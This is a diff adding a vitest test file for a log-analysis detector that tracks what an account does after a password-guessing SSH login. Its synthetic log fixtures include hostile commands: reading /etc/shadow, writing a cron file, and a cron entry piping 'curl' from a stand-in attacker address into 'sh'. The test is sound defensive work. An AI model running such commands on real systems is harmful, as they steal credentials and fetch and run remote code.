@@ -1,0 +1,103 @@
+import { describe, expect, it } from 'vitest'
+import type { Detection } from '../../../schema/detection.ts'
+import type { Event } from '../../../schema/event.ts'
+import { createNormalizer } from '../../normalize/normalize.ts'
+import { sequence } from './sequence.ts'
+
+const log = { debug() {}, info() {}, warn() {}, error() {} }
+const make = () =>
+  sequence.create(sequence.options.parse({}), { now: () => 0, fetch, log, signal: new AbortController().signal })
+
+const receivedAt = Date.parse('2026-11-20T12:00:00Z')
+let first = 0
+const read = (source: string, ...texts: string[]): Event[] => {
+  first += texts.length
+  return createNormalizer().normalize({ partition: 0, first, source, receivedAt, texts, zoneMinutes: 0 })
+}
+
+const guesses = Array.from(
+  { length: 30 },
+  (_, i) =>
+    `Nov 20 01:00:${String(i).padStart(2, '0')} web sshd[9]: Failed password for eve from 203.0.113.9 port 4711 ssh2`,
+)
+const login = 'Nov 20 01:01:00 web sshd[9]: Accepted password for eve from 203.0.113.9 port 4711 ssh2'
+const sudo = (time: string, user: string, command: string, host = 'web') =>
+  `Nov 20 ${time} ${host} sudo:      ${user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=${command}`
+const fetched = (address: string, bytes: number) =>
+  `${address} - - [20/Nov/2026:01:20:00 +0000] "GET /dump.tgz HTTP/1.1" 200 ${bytes} "-" "curl"`
+
+const trailsOf = (batches: readonly (readonly Event[])[], detector = make()): Detection[] => {
+  const found = new Map<string, Detection>()
+  for (const batch of [...batches, []]) for (const one of detector.detect(batch)) found.set(one.id, one)
+  return [...found.values()].filter(({ dedup_key }) => dedup_key.startsWith('after a guessed login'))
+}
+
+describe('whoever got in by guessing', () => {
+  it('is followed: what the account does as root, and what the address fetches elsewhere', () => {
+    const found = trailsOf([
+      read(
+        'auth',
+        ...guesses,
+        login,
+        sudo('01:05:00', 'eve', '/usr/bin/cat /etc/shadow'),
+        sudo('01:09:00', 'eve', '/usr/bin/tee /etc/cron.d/x'),
+      ),
+      read('web', fetched('203.0.113.9', 40_000_000), fetched('198.51.100.4', 40_000_000)),
+      read('cron', 'Nov 20 01:30:01 web CRON[8]: (root) CMD (curl http://203.0.113.9/x | sh)'),
+    ])
+    expect(found.map(({ title, severity, type }) => ({ title, severity, type }))).toEqual([
+      { title: 'eve acted as root 2 times after the guessed login', severity: 'high', type: 'unauthorized_access' },
+      { title: '40 MB went to 203.0.113.9 after the guessed login', severity: 'high', type: 'data_exfiltration' },
+    ])
+    expect(found[0]?.sentence).toContain('cat /etc/shadow and tee /etc/cron.d/x')
+    expect(found[1]?.evidence.map(({ line }) => line.slice(0, 20))).toEqual([
+      '203.0.113.9 - - [20/',
+      'Nov 20 01:30:01 web ',
+    ])
+  })
+
+  it('is not somebody else, on another host, before the login, or a day later', () => {
+    expect(
+      trailsOf([
+        read(
+          'auth',
+          sudo('00:30:00', 'eve', '/usr/bin/id'),
+          ...guesses,
+          login,
+          sudo('01:05:00', 'ann', '/usr/bin/id'),
+          sudo('01:05:00', 'eve', '/usr/bin/id', 'db'),
+        ),
+        read('web', fetched('203.0.113.90', 5_000_000), fetched('1.203.0.113.9', 5_000_000)),
+        read('auth', sudo('01:05:00', 'eve', '/usr/bin/id').replace('Nov 20', 'Nov 21')),
+      ]),
+    ).toEqual([])
+  })
+
+  it('is left alone when the owner of the account is back', () => {
+    const back =
+      'Nov 20 08:00:00 web sshd[9]: Accepted publickey for eve from 10.0.0.7 port 4711 ssh2: ED25519 SHA256:x'
+    expect(trailsOf([read('auth', ...guesses, login, back, sudo('08:05:00', 'eve', '/usr/bin/id'))])).toEqual([])
+  })
+
+  it('is nobody where nothing was guessed', () => {
+    expect(trailsOf([read('auth', guesses[0] ?? '', login, sudo('01:05:00', 'eve', '/usr/bin/id'))])).toEqual([])
+  })
+
+  it('is remembered across a restart', () => {
+    const before = make()
+    before.detect(read('auth', ...guesses, login))
+    const after = make()
+    after.restore?.(before.save?.() ?? new Uint8Array())
+    expect(trailsOf([read('auth', sudo('01:05:00', 'eve', '/usr/bin/id'))], after)).toHaveLength(1)
+  })
+
+  it('fills no more memory than 12 lines', () => {
+    const many = Array.from({ length: 500 }, (_, i) =>
+      sudo(`01:10:${String(i % 60).padStart(2, '0')}`, 'eve', `/usr/bin/id ${i}`),
+    )
+    const [found] = trailsOf([read('auth', ...guesses, login, ...many)])
+    expect(found).toMatchObject({ event_count: 500 })
+    expect(found?.evidence).toHaveLength(12)
+    expect(found?.evidence.at(-1)?.line).toContain('id 499')
+  })
+})
